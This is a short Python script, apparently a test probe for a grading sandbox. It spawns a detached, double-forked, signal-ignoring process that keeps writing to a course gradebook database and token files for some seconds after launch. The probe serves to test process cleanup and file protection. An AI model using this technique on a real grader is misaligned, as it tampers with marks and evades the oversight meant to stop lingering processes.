"""Leaves a process behind, twice forked and in a session of its own, that waits for the marks and then changes them."""

# %%
import os
import subprocess
import sys

code = """
import os, signal, sqlite3, time
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.05)
            for path in ("@COURSE@/gradebook.db", "/tmp/@TOKEN@", "/dev/shm/@TOKEN@", "/work/@TOKEN@"):
                try:
                    open(path, "a").write("x")
                except OSError:
                    pass
"""
subprocess.Popen([sys.executable, "-c", code, "@TOKEN@"], start_new_session=True)
